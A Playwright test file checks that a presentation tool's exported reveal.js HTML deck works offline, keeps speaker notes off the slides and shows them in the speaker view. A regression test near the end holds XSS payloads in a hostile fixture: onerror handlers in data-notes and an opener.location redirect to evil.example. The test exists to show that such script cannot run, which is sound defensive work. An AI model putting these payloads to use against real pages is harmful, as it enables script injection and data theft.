/**
 * The standalone HTML deck, opened straight from disk (file://, no server, no
 * network): it presents, keeps notes off the slides, and reveal.js's speaker
 * view (S) shows the notes and follows the slides.
 */
import { test, expect } from '@playwright/test';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseDeck } from '../src/core/deck';
import { buildHtmlDeck } from '../src/core/export/html-deck';
import { loadPresentAssets } from '../src/node/present-assets';
import { NOTES, TITLES, presentDeckText } from './present-deck';

let dir: string;
let fileUrl: string;

test.beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'briefing-html-'));
  const html = buildHtmlDeck(parseDeck(presentDeckText('deep-blue')).deck, await loadPresentAssets());
  const file = join(dir, '学习会放映测试.html');
  writeFileSync(file, html);
  fileUrl = pathToFileURL(file).href;
});
test.afterAll(() => rmSync(dir, { recursive: true, force: true }));

test('the exported HTML presents from file:// with no network, notes hidden from the slides', async ({ page }) => {
  const remote: string[] = [];
  page.on('request', (r) => {
    if (!/^(file|data|about|blob):/.test(r.url())) remote.push(r.url());
  });
  await page.goto(fileUrl);
  const current = page.locator('.reveal .slides > section.present');
  await expect(current).toContainText(TITLES[0]);
  await expect(page.locator('body.deck-theme-deep-blue')).toHaveCount(1);
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  await expect(current).toContainText(TITLES[2]);
  // The notes travel in the file (for the speaker view) but are not shown on the slide.
  await expect(current.locator('aside.notes')).toBeHidden();
  await expect(page.getByText(NOTES[2]!)).toBeHidden();
  expect(remote).toEqual([]);
});

test("reveal.js's slide number shows only on slides without the footer's page number", async ({ page }) => {
  await page.goto(fileUrl);
  const current = page.locator('.reveal .slides > section.present');
  const number = page.locator('.reveal .slide-number');
  await expect(current).toContainText(TITLES[0]);
  await expect(number).toBeVisible(); // the cover has no footer
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  await expect(current).toContainText(TITLES[2]);
  await expect(current).toHaveAttribute('data-page', '3');
  await expect(number).toBeHidden(); // a content page carries its own number
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  await expect(current).toContainText(TITLES[4]);
  await expect(number).toBeVisible(); // a divider has no footer
});

test('its speaker view (S) shows the notes and follows the slides', async ({ page, context }, info) => {
  await page.goto(fileUrl);
  const current = page.locator('.reveal .slides > section.present');
  await expect(current).toContainText(TITLES[0]);
  await page.keyboard.press('ArrowRight');
  await expect(current).toContainText(TITLES[1]);
  const [speaker] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('s')]);
  const notes = speaker.locator('.speaker-controls-notes');
  await expect(notes).toContainText(NOTES[1]!, { timeout: 15_000 });
  await page.bringToFront();
  await page.keyboard.press('ArrowRight');
  await expect(current).toContainText(TITLES[2]);
  await expect(notes).toContainText(NOTES[2]!);
  // The speaker view's own preview of the current slide is this same file, shown in a frame.
  const frame = speaker.frameLocator('.speaker-controls-current iframe, #current-slide iframe').first();
  await expect(frame.locator('.reveal .slides > section.present')).toContainText(TITLES[2]);
  await speaker.screenshot({ path: info.outputPath('speaker-view.png') });
});

/** Issue 17: HTML in data-notes ran in the speaker view, and the page's CSP allowed inline script. */
const HOSTILE_NOTES = `---
title: 备注属性注入
---
<!-- .slide: data-notes="<img src=x onerror=window.__pwned='slide';opener.location='http://evil.example/?d='>" -->
# 第一页

<p class="fragment" data-notes="<img src=x onerror=alert('fragment')>">片段</p>

<img src="x" onerror="window.__pwned='img'">
Note:
<img src=x onerror="alert('notes')">讲稿第一页
`;

test('a deck cannot run script in the exported page or its speaker view (data-notes, handlers)', async ({ page, context }) => {
  const file = join(dir, '恶意备注.html');
  writeFileSync(file, buildHtmlDeck(parseDeck(HOSTILE_NOTES).deck, await loadPresentAssets()));
  const url = pathToFileURL(file).href;
  const dialogs: string[] = [];
  context.on('page', (p) => p.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss())));
  page.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
  await page.goto(url);
  await expect(page.locator('.reveal .slides > section.present')).toContainText('第一页');
  const [speaker] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('s')]);
  // The speaker view still works under the hashed CSP, and shows the cleaned notes.
  await expect(speaker.locator('.speaker-controls-notes')).toContainText('讲稿第一页', { timeout: 15_000 });
  await page.bringToFront();
  await page.keyboard.press('ArrowRight'); // shows the fragment, whose data-notes the plugin would insert
  await expect(page.locator('.reveal .fragment.visible')).toHaveCount(1);
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
  expect(await speaker.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
  expect(page.url().startsWith(url)).toBe(true); // not navigated away by opener.location
  expect(await page.locator('[data-notes], [onerror]').count()).toBe(0);
});
